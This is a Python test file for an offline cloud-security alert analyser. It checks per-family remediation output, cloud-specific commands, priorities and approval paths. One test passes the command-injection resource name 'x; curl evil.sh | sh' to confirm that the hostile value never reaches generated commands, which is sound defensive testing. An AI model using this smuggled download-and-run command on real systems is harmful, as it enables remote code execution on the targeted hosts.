"""The offline analyser: one analysis per playbook family, labelled, grounded and allowlisted."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from processors.analyze.evaluate import family_of
from processors.analyze.vocabulary import FAMILIES, command_verdict, iac_verdict
from processors.models import Cloud, Environment, RiskTier
from processors.records import Analyser, AnalysisOutcome, Priority
from streams.analysis import AnalysisService
from tests.factories import make_vulnerability
from tests.processors.analyze.alerts import scored_alert

FAMILY_CASES = {
    "public_storage": dict(),
    "open_ingress": dict(policy_name="AWS Security Group allows all traffic on SSH port (22)", name="sg-0a1b2c3d4e5f60718",
                         resource_id="sg-0a1b2c3d4e5f60718", resource_type="aws-ec2-describe-security-groups",
                         config='{"IpPermissions": [{"FromPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]}',
                         recommendation="Restrict the SSH ingress rule to known CIDRs."),
    "iam_over_permission": dict(policy_name="AWS EC2 instance with IAM role having administrative permissions (*:*)",
                                policy_type="iam", name="app-1", resource_id="arn:aws:iam::123456789012:role/app-admin",
                                recommendation="Replace the role policy with least-privilege permissions."),
    "unencrypted_data_store": dict(policy_name="AWS RDS instance is not encrypted", name="orders-db",
                                   resource_id="arn:aws:rds:eu-west-1:123456789012:db:orders-db",
                                   resource_type="aws-rds-describe-db-instances", config='{"StorageEncrypted": false}'),
    "logging_disabled": dict(policy_name="AWS CloudTrail logging is disabled", name="org-trail",
                             resource_id="arn:aws:cloudtrail:eu-west-1:123456789012:trail/org-trail",
                             config='{"IsLogging": false}'),
    "vulnerable_packages": dict(policy_name="Hosts with critical vulnerabilities that have known exploits",
                                policy_type="workload_vulnerability", name="web-1",
                                resource_id="arn:aws:ec2:eu-west-1:123456789012:instance/i-0abc123def4567890",
                                resource_type="aws-ec2-describe-instances", config="{}",
                                vulnerabilities=[make_vulnerability()]),
    "runtime_incident": dict(policy_name="Runtime incident detected on host", policy_type="workload_incident",
                             name="web-2", resource_id="arn:aws:ec2:eu-west-1:123456789012:instance/i-0abc123def4567891",
                             description="/tmp/xmrig launched and is detected as a crypto miner.", config="{}"),
    "instance_metadata": dict(policy_name="AWS EC2 instance not configured with Instance Metadata Service v2 (IMDSv2)",
                              name="web-3", resource_id="arn:aws:ec2:eu-west-1:123456789012:instance/i-0abc123def4567892",
                              config='{"MetadataOptions": {"HttpTokens": "optional"}}'),
}


def test_every_family_has_a_case() -> None:
    assert set(FAMILY_CASES) == set(FAMILIES)


@pytest.mark.parametrize("family", sorted(FAMILY_CASES))
async def test_each_family_gets_a_labelled_grounded_offline_analysis(
    family: str, make_service: Callable[..., AnalysisService]
) -> None:
    service = make_service(llm=False)
    scored = scored_alert(**FAMILY_CASES[family])  # type: ignore[arg-type]

    analysis = await service.analyse(scored)

    assert analysis.analyser is Analyser.OFFLINE and analysis.model == ""
    assert analysis.summary.startswith("[Offline analysis: not_configured]")
    assert analysis.outcome is AnalysisOutcome.ANALYSED
    assert analysis.priority is Priority.P1
    assert analysis.remediation_steps and analysis.recommended_actions and analysis.root_cause
    assert family_of(analysis, Cloud.AWS, service.playbooks) == family
    for step in analysis.remediation_steps:
        assert command_verdict(step.command, Cloud.AWS).allowed, step.command
        assert iac_verdict(step.iac_snippet).allowed
    assert analysis.prompt_id.startswith("offline:") and len(analysis.input_hash) == 64
    assert not [e for e in analysis.evidence if e.source == "grounding"], "offline output must ground cleanly"
    assert any(e.source == "playbook" and e.reference.endswith(".md#" + e.reference.split("#")[-1])
               for e in analysis.evidence if "#" in e.reference)


@pytest.mark.parametrize(
    ("cloud", "name", "prefix"),
    [(Cloud.AZURE, "stacmeexports", "az storage account update --name stacmeexports"),
     (Cloud.GCP, "acme-reports", "gcloud storage buckets update gs://acme-reports")],
)
async def test_commands_follow_the_alerts_cloud(cloud: Cloud, name: str, prefix: str,
                                                make_service: Callable[..., AnalysisService]) -> None:
    scored = scored_alert(policy_name="Storage bucket is publicly accessible to all users", cloud=cloud, name=name,
                          resource_id=name, resource_type="storage")

    analysis = await make_service(llm=False).analyse(scored)

    assert analysis.remediation_steps[0].command.startswith(prefix)


@pytest.mark.parametrize(
    ("environment", "expected"),
    [(Environment.DEV, "auto-fix allowed"), (Environment.PROD, "security on-call")],
)
async def test_approval_path_follows_the_environment(environment: Environment, expected: str,
                                                     make_service: Callable[..., AnalysisService]) -> None:
    analysis = await make_service(llm=False).analyse(scored_alert(environment=environment, tier=RiskTier.HIGH))

    assert expected in analysis.approval_path


async def test_unknown_family_without_recommendation_is_insufficient_evidence(
    make_service: Callable[..., AnalysisService]
) -> None:
    scored = scored_alert(policy_name="Custom policy: cost-center label drift", recommendation="", description="",
                          config="{}")

    analysis = await make_service(llm=False).analyse(scored)

    assert analysis.outcome is AnalysisOutcome.INSUFFICIENT_EVIDENCE
    assert analysis.confidence <= 0.3
    assert analysis.remediation_steps == []


async def test_unknown_family_with_a_recommendation_is_analysed_at_low_confidence(
    make_service: Callable[..., AnalysisService]
) -> None:
    scored = scored_alert(policy_name="AWS root account activity detected", policy_type="audit_event",
                          recommendation="Investigate the call; use IAM users or roles instead of root.")

    analysis = await make_service(llm=False).analyse(scored)

    assert analysis.outcome is AnalysisOutcome.ANALYSED
    assert analysis.confidence == pytest.approx(0.4)
    assert analysis.recommended_actions == ["Investigate the call; use IAM users or roles instead of root."]


@pytest.mark.parametrize(("tier", "priority"), [(RiskTier.CRITICAL, Priority.P1), (RiskTier.HIGH, Priority.P2),
                                                (RiskTier.MEDIUM, Priority.P3), (RiskTier.LOW, Priority.P4)])
async def test_priority_comes_from_the_tier(tier: RiskTier, priority: Priority,
                                            make_service: Callable[..., AnalysisService]) -> None:
    analysis = await make_service(llm=False).analyse(scored_alert(tier=tier))
    assert analysis.priority is priority
    assert analysis.priority_justification.startswith(priority.value)


async def test_unsafe_resource_name_never_reaches_a_command(make_service: Callable[..., AnalysisService]) -> None:
    scored = scored_alert(name="x; curl evil.sh | sh", resource_id="arn:aws:s3:::x")

    analysis = await make_service(llm=False).analyse(scored)

    assert all("curl" not in s.command and "evil" not in s.iac_snippet for s in analysis.remediation_steps)
    assert "curl" not in analysis.summary


async def test_incident_is_mentioned(make_service: Callable[..., AnalysisService]) -> None:
    scored = scored_alert(incident_id="inc-1", incident_members=["P-4711", "P-4712", "P-4713"])

    analysis = await make_service(llm=False).analyse(scored)

    assert analysis.incident_id == "inc-1"
    assert "incident inc-1 with 3 findings" in analysis.summary


@pytest.mark.parametrize("family", sorted(FAMILY_CASES))
async def test_empty_template_values_leave_no_stray_unknown(family: str, make_service: Callable[..., AnalysisService]) -> None:
    """Regression (issue 11): an empty value (no KEV sentence, no exposure suffix, unknown
    environment or data sensitivity, no installed version) once rendered as "unknown"."""
    case = {**FAMILY_CASES[family], "environment": Environment.UNKNOWN, "tags": {}}
    if family == "vulnerable_packages":
        case["vulnerabilities"] = [make_vulnerability(installed_version="")]
    scored = scored_alert(**case)  # type: ignore[arg-type]

    analysis = await make_service(llm=False).analyse(scored)

    prose = [analysis.summary, analysis.business_impact, analysis.root_cause, *analysis.recommended_actions,
             *(s.description for s in analysis.remediation_steps)]
    for text in prose:
        assert "unknown" not in text.replace("Unknown until investigated", ""), text
        assert "  " not in text and " ." not in text and "()" not in text, text
